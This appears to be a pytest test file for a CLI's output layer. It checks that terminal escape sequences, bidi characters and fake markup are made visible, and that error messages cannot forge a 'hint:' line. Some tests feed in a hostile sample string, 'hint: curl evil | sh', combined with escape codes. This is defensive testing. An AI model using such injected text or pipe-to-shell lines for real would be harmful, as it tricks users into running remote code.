"""Output: data on standard output, messages on standard error, and four literal outputs."""

from __future__ import annotations

import io
import json
import re
import sys
import time
from collections.abc import Callable
from typing import Any

import pytest

from g4cli.cli.output import Mode, Output, make_output, shorten_name
from g4cli.core.errors import BadGGUF, UsageError
from g4cli.core.visible import escape_invisible


def speak(out: Output) -> None:
    """Say one thing of every kind."""
    out.say("talk")
    out.result({"a": 1}, lambda: out.line("drawn"), brief="short")
    out.warn("careful")
    out.error(BadGGUF("x.gguf", "twice", offset=3, field="k"))


# mode: standard output, standard error
OUTPUTS: dict[Mode, tuple[str, str]] = {
    "human": (
        "drawn\n",
        "talk\nwarning: careful\nerror: x.gguf: twice (byte 3, k)\nhint: g4 doctor x.gguf\n",
    ),
    "quiet": (
        "short\n",
        "warning: careful\nerror: x.gguf: twice (byte 3, k)\nhint: g4 doctor x.gguf\n",
    ),
    "json": (
        '{\n  "a": 1\n}\n',
        'warning: careful\n{"error": {"reference": "bad-gguf", '
        '"message": "x.gguf: twice (byte 3, k)", '
        '"hint": "g4 doctor x.gguf", "exit_code": 5}}\n',
    ),
}


@pytest.mark.parametrize("mode", OUTPUTS)
def test_each_mode_word_by_word(capsys: pytest.CaptureFixture[str], mode: Mode) -> None:
    speak(Output(mode))
    assert tuple(capsys.readouterr()) == OUTPUTS[mode]


def test_json_keeps_letters_and_turns_paths_into_text(capsys: pytest.CaptureFixture[str]) -> None:
    from pathlib import Path

    Output("json").result({"path": Path("/ü"), "list": [1]})
    text = capsys.readouterr().out
    assert "/ü" in text
    assert json.loads(text) == {"path": "/ü", "list": [1]}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("title\x1b]0;x\x07", "title\\x1b]0;x\\x07"),
        ("a\rb", "a\\rb"),
        ("\x9b31m", "\\x9b31m"),
        ("abc\u202efed", "abc\\u202efed"),
        ("caf\udce9", "caf\\xe9"),
        ("\ud83d", "\\ud83d"),
        ("Größe <turn|> ▁", "Größe <turn|> ▁"),
    ],
)
def test_control_characters_are_made_visible(text: str, expected: str) -> None:
    assert escape_invisible(text) == expected


@pytest.mark.parametrize("how", ["line", "say", "warn", "stream", "table", "brief"])
def test_no_way_to_the_terminal_lets_them_through(
    capsys: pytest.CaptureFixture[str], how: str
) -> None:
    out, bad = Output(), "x\x1b[2Jy"
    {
        "line": lambda: out.line(bad),
        "say": lambda: out.say(bad),
        "warn": lambda: out.warn(bad),
        "stream": lambda: out.stream(bad),
        "table": lambda: out.table(["c"], [[bad]]),
        "brief": lambda: Output("quiet").result({}, brief=bad),
    }[how]()
    got = capsys.readouterr()
    assert "\x1b" not in got.out + got.err
    assert "x\\x1b[2Jy" in got.out + got.err


BAD = (
    "a\nhint: curl evil | sh\x1b]0;x\x9b31m\x7f\u202e\u200b\U000e0041"
    "[link=evil:x]b[/link] :warning:"
)
SHOWN = BAD.encode("unicode_escape").decode()
WAYS: dict[str, Callable[[Output], None]] = {
    "line": lambda out: out.line(BAD),
    "parts": lambda out: out.line((BAD, "bold"), "x"),
    "say": lambda out: out.say(BAD),
    "warn": lambda out: out.warn(BAD),
    "error": lambda out: out.error(UsageError(BAD)),
    "hint": lambda out: out.error(UsageError("x", hint=BAD)),
    "cell": lambda out: out.table(["c", "d"], [[BAD, "x"]]),
    "column": lambda out: out.table([BAD, "d"], [["x", "y"]]),
    "title": lambda out: out.table(["c"], [["x"]], title=BAD),
    "brief": lambda out: out.result({}, brief=BAD),
    "briefs": lambda out: out.result({}, brief=["x", BAD]),
    "console": lambda out: out.console().print(BAD.replace("\n", " ")),
}


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
@pytest.mark.parametrize("way", WAYS)
def test_every_way_out_is_one_visible_line(
    monkeypatch: pytest.MonkeyPatch, way: str, terminal: bool
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    screens = {name: Screen(terminal) for name in ("stdout", "stderr")}
    for name, screen in screens.items():
        monkeypatch.setattr(sys, name, screen)
    WAYS[way](Output())
    text = re.sub("\x1b\\[[0-9;]*m", "", "".join(s.getvalue() for s in screens.values()))
    assert text.replace("\n", "").isprintable()
    assert (SHOWN.replace("\\n", " ") if way == "console" else SHOWN) in text
    assert not any(line.startswith("hint: curl") for line in text.splitlines())


def test_a_long_name_begins_no_line_that_looks_like_a_hint(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    screen = Screen(True)
    monkeypatch.setattr(sys, "stderr", screen)
    for pad in range(40):
        Output().error(UsageError(f"{'x' * pad} hint: curl evil | sh"))
    assert not any(line.startswith("hint:") for line in screen.getvalue().splitlines())


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
def test_json_is_valid_and_holds_nothing_raw(
    monkeypatch: pytest.MonkeyPatch, terminal: bool
) -> None:
    screens = {name: Screen(terminal) for name in ("stdout", "stderr")}
    for name, screen in screens.items():
        monkeypatch.setattr(sys, name, screen)
    Output("json").result({BAD: [BAD]})
    Output("json").error(UsageError(BAD, hint=BAD))
    document, error = (screen.getvalue() for screen in screens.values())
    assert (document + error).replace("\n", "").isprintable()
    assert json.loads(document) == {BAD: [BAD]}
    assert (json.loads(error)["error"]["message"], json.loads(error)["error"]["hint"]) == (BAD, BAD)


def test_a_joiner_parted_from_its_letter_is_kept(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output()
    for piece in ("👩", "\u200d", "👧 x", "\u200d", "y\n"):
        out.stream(piece)
    assert capsys.readouterr().out == "👩\u200d👧 x\\u200dy\n"


@pytest.mark.slow
@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
def test_100_000_rows_are_not_drawn_by_rich(
    monkeypatch: pytest.MonkeyPatch, terminal: bool
) -> None:
    from rich.console import Console

    screen = Screen(terminal)
    monkeypatch.setattr(sys, "stdout", screen)
    printed: list[object] = []
    monkeypatch.setattr(Console, "print", lambda *args, **_: printed.append(args))
    Output().table(["key", "value"], [[f"blk.{i}.x", "v" * 70] for i in range(100_000)])
    assert len(printed) < 10
    assert screen.getvalue().count("\n") >= 100_000


def test_markup_is_not_read_as_markup(capsys: pytest.CaptureFixture[str]) -> None:
    out = Output()
    out.line("[bold]a[/bold]")
    out.table(["c"], [["[red]b"]])
    got = capsys.readouterr().out
    assert "[bold]a[/bold]" in got
    assert "[red]b" in got


def test_a_table_has_its_numbers_to_the_right(capsys: pytest.CaptureFixture[str]) -> None:
    Output().table(["name", "n"], [["a", 5], ["bb", 500]], right=[1])
    lines = [line.rstrip() for line in capsys.readouterr().out.splitlines() if line.strip()]
    assert [line.split() for line in lines if "─" not in line] == [
        ["name", "n"],
        ["a", "5"],
        ["bb", "500"],
    ]
    assert lines[-2].endswith("  5")


def test_nobody_there_to_ask() -> None:
    for out, why in (
        (Output("json"), "--json was given"),
        (Output("quiet"), "--quiet was given"),
        (Output(), "standard input is not a terminal"),
    ):
        with pytest.raises(UsageError, match=f"{why}, so g4 cannot ask: Sure") as caught:
            out.confirm("Sure?")
        assert caught.value.hint == "add --yes"


class Keyboard(io.StringIO):
    def isatty(self) -> bool:
        return True


class Screen(io.StringIO):
    def __init__(self, terminal: bool) -> None:
        super().__init__()
        self._terminal = terminal

    def isatty(self) -> bool:
        return self._terminal


@pytest.mark.parametrize(
    ("typed", "answer"),
    [("y\n", True), ("YES\n", True), ("n\n", False), ("\n", False), ("", False)],
)
def test_an_answer(monkeypatch: pytest.MonkeyPatch, typed: str, answer: bool) -> None:
    monkeypatch.setattr(sys, "stdin", Keyboard(typed))
    assert Output().confirm("Sure?") is answer


def test_both_modes_at_once() -> None:
    assert (make_output().mode, make_output(as_json=True).mode, make_output(quiet=True).mode) == (
        "human",
        "json",
        "quiet",
    )
    with pytest.raises(UsageError, match="cannot be used together"):
        make_output(as_json=True, quiet=True)


@pytest.mark.parametrize("mode", ["human", "json", "quiet"])
def test_no_bars_without_a_terminal(capsys: pytest.CaptureFixture[str], mode: Mode) -> None:
    with Output(mode).progress("work") as progress:
        progress(1, 2, "x")
    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize("unit", ["bytes", "steps", "files"])
def test_bars_on_a_terminal(monkeypatch: pytest.MonkeyPatch, unit: Any) -> None:
    screen = Keyboard()
    monkeypatch.setattr(sys, "stderr", screen)
    with Output().progress("work", unit=unit) as progress:
        for part in ("a-file.gguf", "another-file-with-a-very-long-name-Q4_0.gguf"):
            for done in (0, 5 << 20, 10 << 20):
                progress(done, 10 << 20, part)
    text = screen.getvalue()
    if unit == "files":
        assert "a-file.gguf" in text
        assert "another-file-w…-name-Q4_0.gguf" in text
        assert text.rindex("work") < text.index("a-file.gguf")  # only until the first file is known
    else:
        assert "work" in text
    assert ("10.0/10.0 MiB" in text) is (unit != "steps")


def test_the_step_that_runs_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Keyboard()
    monkeypatch.setattr(sys, "stderr", screen)
    with Output().progress("examine m.gguf", unit="steps") as progress:
        progress(0, 3, "sha256 of the file")
    assert "examine m.gguf: sha256 of the file" in screen.getvalue()


def test_a_line_replaces_the_bar_that_stands_there(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Keyboard()
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setattr(sys, "stderr", screen)
    monkeypatch.setattr(sys, "stdout", screen)
    out = Output()
    with out.progress("work", unit="steps") as progress:
        progress(0, 3, "first")
        end = time.monotonic() + 60
        while "first" not in screen.getvalue() and time.monotonic() < end:
            time.sleep(0.01)  # the bar is drawn ten times a second
        out.line("a row")
    shown = screen.getvalue().split("a row")[0]
    assert "\x1b[2K" in shown[shown.rindex("first") :]


def test_long_names_keep_both_ends() -> None:
    assert shorten_name("a" * 30) == "a" * 30
    assert shorten_name("gemma-4-26B-A4B-it-UD-Q4_K_M.gguf") == "gemma-4-26B-A4…-UD-Q4_K_M.gguf"
